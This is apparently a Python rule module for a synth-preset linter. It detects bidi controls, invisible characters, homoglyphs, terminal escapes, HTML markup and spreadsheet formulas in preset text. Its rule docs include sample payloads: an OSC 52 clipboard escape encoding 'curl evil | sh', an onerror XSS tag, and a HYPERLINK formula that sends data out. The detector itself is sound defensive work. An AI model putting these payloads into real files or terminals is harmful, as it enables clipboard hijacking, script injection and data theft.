"""Text that deceives people or the tools they read it in.

Bidi controls and terminal escape sequences spoof what a name looks like (``Bass\\u202Egpj.exe``
shows as ``Bassexe.jpg``; ``ESC]8;`` hides a link, ``ESC]52;`` writes the clipboard); invisible
characters and mixed-script homoglyphs make two names look the same; HTML and spreadsheet
formulas are harmless to a synth but run in the report or spreadsheet someone opens. Every text
of the file is checked: names, comments, keys, the file name and archive member names.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterator
from functools import lru_cache

from presetctl.engine.formats.base import Document
from presetctl.engine.model import Violation
from presetctl.engine.rules.base import RuleContext, RuleDoc
from presetctl.engine.rules.security.base import HIGH, LOW, security_rule
from presetctl.engine.security.content import Scan, Text
from presetctl.safe_text import excerpt

_BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
# Escape sequences a terminal acts on (ECMA-48 and the DEC/xterm extensions): CSI, OSC, DCS and the
# SOS/PM/APC strings, character-set designations (G0-G3, 94- and 96-character sets), a coding-system
# switch (ESC %, which can leave UTF-8), locking shifts, and the controls that rewrite the screen:
# full reset, save/restore cursor, reverse index, DEC line attributes and screen alignment. The
# 8-bit C1 forms of CSI, OSC, DCS, SOS, PM, APC and RI too.
# A string sequence (OSC, DCS, SOS, PM, APC) runs to its terminator (BEL, ST `ESC \\` or C1 ST),
# so the ESC of its ST is part of it.
_ACTIVE = re.compile("(?:\x1b[\\]PX^_]|[\x9d\x90\x98\x9e\x9f])[^\x07\x1b\x9c]*(?:\x07|\x1b\\\\|\x9c)?"
                     "|\x1b(?:\\[|[()*+\\-./][\x20-\x7e]|%[\x20-\x7e]|[no|}~c78M]|#[3-8])|[\x9b\x8d]")
# ESC and the C1 controls: a lone one that starts none of the sequences above does nothing on a
# terminal (a DX7 voice name `Roe<ESC>Bear`): an invisible character (X061), not an escape (X063).
_LONE_CONTROL = re.compile("[\x1b\x80-\x9f]")
_INVISIBLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1a\x1c-\x1f\x7f\u00ad\u061c\u115f\u1160\u180e\u200b-\u200f"
                        "\u2060-\u2064\u3164\ufeff\uffa0\U000e0000-\U000e007f\x1b\x80-\x9f]")
_MARKUP = re.compile(r"<\s*/?\s*(?:script|iframe|object|embed|svg|img|style|link|meta|form|base|frame|body)\b"
                     r"|<\s*a\s[^>]*href|javascript\s*:|vbscript\s*:|\bon(?:error|load|click|mouseover|focus|"
                     r"toggle|animationstart)\s*=", re.I)
_FORMULA = re.compile(r"^[\s]*[=+\-@]\s*(?:[A-Za-z_][\w.]*\s*\(|[A-Za-z]+\s*\|)")
_NON_ASCII = re.compile("[^\x00-\x7f]")
_WORD = re.compile(r"\w+")
_CONFUSABLE_SCRIPTS = frozenset({"LATIN", "CYRILLIC", "GREEK", "ARMENIAN", "CHEROKEE", "COPTIC"})
_HUMAN = ("value", "filename", "entry", "key")
_FORMULA_START = ("=", "+", "-", "@")
_MARKUP_WORDS = ("<", "script:", "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart")


def _names(chars: list[str]) -> str:
    return ", ".join(f"U+{ord(c):04X} {unicodedata.name(c, 'control')}" for c in dict.fromkeys(chars))


def _what(t: Text) -> str:
    return {"filename": "file name", "entry": "archive member name", "key": "key", "path": "file reference",
            "decoded": "decoded text"}.get(t.role, "text")


def _owners(scan: Scan, pattern: re.Pattern[str]) -> Iterator[Text]:
    """Texts of the file itself (not decoded payloads) with at least one match."""
    return scan.joined(decoded=False).owners_of(pattern)


# Pre-filters: str.isascii() is O(1) in CPython, so an ASCII text is cleared without a scan for
# what only non-ASCII characters (bidi controls, C1 controls, other scripts) can be.
def _own_text(scan: Scan) -> str:
    return scan.joined(decoded=False).text


def _may_bidi(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
    text = _own_text(scan)
    return not text.isascii() and _BIDI.search(text) is not None


def _may_invisible(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
    return _INVISIBLE.search(_own_text(scan)) is not None


def _may_homoglyph(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
    return not _own_text(scan).isascii()


def _may_escape(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
    text = _own_text(scan)
    return "\x1b" in text or (not text.isascii() and _ACTIVE.search(text) is not None)


def _may_markup(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
    return scan.joined(decoded=False).mentions(*_MARKUP_WORDS)


def _may_formula(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
    return any(t.text.lstrip()[:1] in _FORMULA_START for t in scan.texts() if t.role in _HUMAN and t.text)


def check_bidi(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for t in _owners(scan, _BIDI):
        found = _BIDI.findall(t.text)
        if found:
            yield Violation(f"{_what(t)} {excerpt(t.text)} contains bidirectional controls ({_names(found)}): it "
                            "displays in a different order than it reads", t.location)


def _in_sequences(text: str) -> set[int]:
    """Positions of the ESC and C1 controls in ``text`` that belong to an active escape sequence
    (X063's), so are not lone ones. (Other controls inside one, such as OSC's closing BEL, stay
    invisible characters.)"""
    if not _LONE_CONTROL.search(text):
        return set()
    return {i for m in _ACTIVE.finditer(text) for i in range(m.start(), m.end()) if _LONE_CONTROL.match(text, i)}


def check_invisible(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for t in _owners(scan, _INVISIBLE):
        taken = _in_sequences(t.text)
        found = [m.group() for m in _INVISIBLE.finditer(t.text)
                 if not (m.group() == "\ufeff" and m.start() == 0) and m.start() not in taken]
        if found:
            yield Violation(f"{_what(t)} {excerpt(t.text)} contains invisible characters ({_names(found)})",
                            t.location)


@lru_cache(maxsize=4096)
def _script(ch: str) -> str:
    name = unicodedata.name(ch, "")
    return name.split(" ", 1)[0] if name else ""


def check_homoglyph(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for t in _owners(scan, _NON_ASCII):
        if t.role not in _HUMAN or len(t.text) > 4096:
            continue
        for word in _WORD.findall(t.text):
            if word.isascii():
                continue
            scripts = {s for s in (_script(c) for c in word if c.isalpha()) if s in _CONFUSABLE_SCRIPTS}
            if len(scripts) > 1:
                yield Violation(f"{_what(t)} {excerpt(t.text)} mixes {' and '.join(sorted(scripts)).lower()} letters "
                                f"in the word {excerpt(word, 40)}: it can pass for another name", t.location)
                break


def check_escape(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for t in _owners(scan, _ACTIVE):
        m = _ACTIVE.search(t.text)
        if m is None:
            continue
        yield Violation(f"{_what(t)} {excerpt(t.text)} contains {_escape_kind(t.text, m.start())}: printed on a "
                        "terminal it takes control of it", t.location)


_C1 = {"\x9b": "a C1 CSI control (U+009B)", "\x9d": "a C1 OSC control (U+009D)", "\x90": "a C1 DCS control (U+0090)",
       "\x98": "a C1 SOS control (U+0098)", "\x9e": "a C1 PM control (U+009E)", "\x9f": "a C1 APC control (U+009F)",
       "\x8d": "a C1 reverse index (U+008D)"}
_AFTER_ESC = (("]8;", "an OSC 8 escape (a hidden hyperlink)"), ("]52", "an OSC 52 escape (writes the clipboard)"),
              ("]", "an OSC escape sequence (window title, colours, links)"),
              ("[", "a CSI escape sequence (cursor, colour, erase)"),
              (("P", "X", "^", "_"), "a DCS/SOS/PM/APC escape sequence"),
              (("(", ")", "*", "+", "-", ".", "/"), "a character set switch (ESC ( and the like)"),
              ("%", "a coding system switch (ESC %)"),
              (("n", "o", "|", "}", "~"), "a locking shift to another character set"),
              ("c", "a full terminal reset (ESC c)"),
              (("7", "8", "M", "#"), "a cursor or screen control (save/restore cursor, reverse index, DEC line "
                                      "attributes)"))


def _escape_kind(text: str, i: int) -> str:
    if text[i] != "\x1b":
        return _C1[text[i]]
    nxt = text[i + 1 : i + 4]
    return next(what for start, what in _AFTER_ESC if nxt.startswith(start))


def check_markup(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    joined = scan.joined(decoded=False)
    if not joined.mentions(*_MARKUP_WORDS):
        return
    for t in joined.owners_of(_MARKUP):
        m = _MARKUP.search(t.text)
        if m is not None and t.role in _HUMAN:
            yield Violation(f"{_what(t)} {excerpt(t.text)} contains HTML/script markup ({excerpt(m.group(), 40)}): "
                            "it runs in HTML reports, web preset browsers and forums that show it unescaped",
                            t.location)


def check_formula(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for t in scan.texts():
        if t.role not in _HUMAN or not t.text or t.text.lstrip()[:1] not in _FORMULA_START:
            continue
        if _FORMULA.match(t.text):
            yield Violation(f"{_what(t)} {excerpt(t.text)} is a spreadsheet formula: opening an export of the pack "
                            "in a spreadsheet runs it", t.location)


RULES = (
    security_rule("X060", "bidi-control", HIGH, "Bidirectional control characters in text (Trojan Source)",
                  RuleDoc("Reports Unicode bidi embeddings, overrides and isolates (U+202A-U+202E, U+2066-U+2069) in "
                          "any text, the file name and archive member names.",
                          "They reorder what is displayed: `Bass\\u202Egpj.exe` shows as `Bassexe.jpg`. Used to disguise "
                          "executables and to make reviewers read something other than what the software sees.",
                          '`"preset_name": "Pad \\u202egnp.exe"`', "Remove the control characters."),
                  check_bidi, quick=_may_bidi),
    security_rule("X061", "invisible-character", LOW, "Invisible or control characters in text",
                  RuleDoc("Reports zero-width characters, soft hyphens, Hangul fillers, tag characters, bidi marks, a "
                          "byte order mark inside text, C0 control characters other than tab and line breaks, and a "
                          "lone ESC or C1 control that starts no escape sequence a terminal acts on (a DX7 voice "
                          "name `Roe\\x1bBear`: ESC followed by `B` does nothing; the sequences that do are X063).",
                          "Two names that look identical can differ by an invisible character: duplicate names, "
                          "spoofed authors, and search or sort behaving oddly.",
                          '`"name": "Lead\\u200b"`', "Remove the invisible characters."),
                  check_invisible, quick=_may_invisible),
    security_rule("X062", "homoglyph-name", LOW, "A word mixes letters of different scripts",
                  RuleDoc("Reports words that mix Latin, Cyrillic, Greek, Armenian, Cherokee or Coptic letters, the "
                          "scripts whose letters look alike.",
                          "`Bаss` with a Cyrillic `а` looks like `Bass` but is a different name: used to impersonate "
                          "authors and packs, and to slip past block lists.",
                          '`"author": "Аlice"` (Cyrillic A)', "Write the word in one script."),
                  check_homoglyph, quick=_may_homoglyph),
    security_rule("X063", "terminal-escape", HIGH, "Terminal escape sequences or C1 controls in text",
                  RuleDoc("Reports escape sequences a terminal acts on, in any text, the file name and archive member "
                          "names: CSI (`ESC [`: cursor, colour, erase), OSC (`ESC ]`: OSC 8 hyperlinks, OSC 52 "
                          "clipboard writes, window titles), DCS, SOS, PM and APC strings, character set switches "
                          "(`ESC (`, `ESC )` ... and the locking shifts), a coding-system switch (`ESC %`), a full "
                          "reset (`ESC c`), save/restore cursor, reverse index, DEC line attributes, and the 8-bit C1 "
                          "forms of CSI, OSC, DCS, SOS, PM, APC and reverse index. A lone ESC or C1 control that starts "
                          "none of these is X061 (low).",
                          "Printed by `cat`, `ls`, a log viewer or a careless tool, they rewrite the screen, hide text, "
                          "plant links, or write the clipboard (so the next paste runs a command).",
                          '`"preset_name": "Pad\\u001b]52;c;Y3VybCBldmlsIHwgc2gK\\u0007"`',
                          "Remove the control characters."),
                  check_escape, quick=_may_escape),
    security_rule("X064", "html-markup", LOW, "HTML or script markup in text",
                  RuleDoc("Reports `<script>`, `<iframe>`, `<img ... onerror=`, `javascript:` and similar markup in "
                          "names, comments and other texts." " Not on plain documentation (a README, LICENSE or `.md`/`.txt` file in no preset format), where "
                          "links, addresses and names are expected.",
                          "Harmless to the synth, but preset browsers, shop pages, forums and HTML reports that show "
                          "the text unescaped run it (stored XSS).",
                          '`"comments": "<img src=x onerror=alert(1)>"`', "Remove the markup."),
                  check_markup, on_docs=False, quick=_may_markup),
    security_rule("X065", "spreadsheet-formula", LOW, "Text is a spreadsheet formula (CSV injection)",
                  RuleDoc("Reports texts that start with `=`, `+`, `-` or `@` followed by a function call or a DDE "
                          "link (`=HYPERLINK(...)`, `@SUM(...)`, `-cmd|...`)." " Not on plain documentation (a README, LICENSE or `.md`/`.txt` file in no preset format), where "
                          "links, addresses and names are expected.",
                          "Librarians export pack listings to CSV; a spreadsheet that opens the export runs the formula "
                          "(data exfiltration via HYPERLINK/WEBSERVICE, commands via DDE).",
                          '`"preset_name": "=HYPERLINK(\\"http://x/?\\"&A1,\\"Pad\\")"`',
                          "Rename the preset so it does not start with a formula character."),
                  check_formula, on_docs=False, quick=_may_formula),
)
